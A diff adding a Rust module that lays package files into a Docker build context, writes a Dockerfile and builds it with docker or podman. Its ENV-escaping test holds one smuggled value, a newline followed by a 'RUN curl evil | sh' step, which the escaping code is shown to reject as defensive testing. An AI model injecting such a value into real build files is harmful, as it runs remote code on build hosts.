@@ -0,0 +1,136 @@
+use crate::package::PlatformDetails;
+use anyhow::{Context, Result, anyhow};
+use std::fs;
+use std::os::unix::fs::symlink;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+/// Where packages live inside the image
+pub const IMAGE_ROOT: &str = "/opt/leaf";
+
+pub const DEFAULT_BASE: &str = "debian:stable-slim";
+
+/// An installed package to lay into the image
+pub struct ImagePackage<'a> {
+    pub key: &'a str,
+    pub source_dir: PathBuf,
+    pub platform_details: &'a PlatformDetails,
+}
+
+/// Write a Dockerfile and build context that copies the packages into
+/// IMAGE_ROOT and puts their executables on PATH
+pub fn write_context(context_dir: &Path, base: &str, packages: &[ImagePackage]) -> Result<()> {
+    let root = context_dir.join(IMAGE_ROOT.trim_start_matches('/'));
+    let bin_dir = root.join("bin");
+    fs::create_dir_all(&bin_dir)?;
+
+    let mut env_lines = Vec::new();
+    for package in packages {
+        let image_dir = Path::new(IMAGE_ROOT).join("packages").join(package.key);
+        copy_dir(
+            &package.source_dir,
+            &root.join("packages").join(package.key),
+        )
+        .with_context(|| format!("Failed to copy {}", package.key))?;
+
+        // Links point at the path inside the image, so they dangle on the host
+        for executable_info in package.platform_details.get_executables() {
+            let link = bin_dir.join(executable_info.exposed_name());
+            if fs::symlink_metadata(&link).is_ok() {
+                fs::remove_file(&link)?;
+            }
+            symlink(image_dir.join(&executable_info.path), link)?;
+        }
+
+        for (key, value) in package.platform_details.get_env(&image_dir) {
+            env_lines.push(env_line(&key, &value).with_context(|| format!("In {}", package.key))?);
+        }
+    }
+
+    let mut dockerfile = format!(
+        "# Generated by leaf containerize\nFROM {}\nCOPY {} {}\nENV PATH=\"{}/bin:${{PATH}}\"\n",
+        base,
+        IMAGE_ROOT.trim_start_matches('/'),
+        IMAGE_ROOT,
+        IMAGE_ROOT
+    );
+    for line in env_lines {
+        dockerfile.push_str(&line);
+        dockerfile.push('\n');
+    }
+    fs::write(context_dir.join("Dockerfile"), dockerfile)?;
+    Ok(())
+}
+
+/// An ENV instruction setting `key` to exactly `value`. Docker would expand `$`
+/// and a newline would start another instruction, so variables are escaped and
+/// control characters refused.
+fn env_line(key: &str, value: &str) -> Result<String> {
+    if key.is_empty() || !key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
+        return Err(anyhow!(
+            "'{}' is not a valid environment variable name",
+            key
+        ));
+    }
+    if value.chars().any(char::is_control) {
+        return Err(anyhow!("The value of {} contains control characters", key));
+    }
+    let escaped = value
+        .replace('\\', "\\\\")
+        .replace('"', "\\\"")
+        .replace('$', "\\$");
+    Ok(format!("ENV {}=\"{}\"", key, escaped))
+}
+
+/// Build the context with docker, or podman when docker is not installed
+pub fn build_image(context_dir: &Path, tag: &str) -> Result<()> {
+    for engine in ["docker", "podman"] {
+        let status = Command::new(engine)
+            .arg("build")
+            .arg("-t")
+            .arg(tag)
+            .arg(context_dir)
+            .status();
+        match status {
+            Ok(status) if status.success() => return Ok(()),
+            Ok(status) => return Err(anyhow!("{} build failed with {}", engine, status)),
+            Err(_) => continue,
+        }
+    }
+    Err(anyhow!("Neither docker nor podman is installed"))
+}
+
+/// Recursively copy a directory, keeping symlinks and permissions
+fn copy_dir(from: &Path, to: &Path) -> Result<()> {
+    fs::create_dir_all(to)?;
+    for entry in fs::read_dir(from)? {
+        let entry = entry?;
+        let source = entry.path();
+        let dest = to.join(entry.file_name());
+        let file_type = entry.file_type()?;
+        if file_type.is_symlink() {
+            symlink(fs::read_link(&source)?, &dest)?;
+        } else if file_type.is_dir() {
+            copy_dir(&source, &dest)?;
+        } else {
+            fs::copy(&source, &dest)?;
+        }
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_env_line() {
+        assert_eq!(
+            env_line("GOROOT", "/opt/leaf/packages/go \"$HOME\" \\").unwrap(),
+            "ENV GOROOT=\"/opt/leaf/packages/go \\\"\\$HOME\\\" \\\\\""
+        );
+        assert!(env_line("X", "a\nRUN curl evil | sh").is_err());
+        assert!(env_line("X=1\nRUN", "a").is_err());
+        assert!(env_line("", "a").is_err());
+    }
+}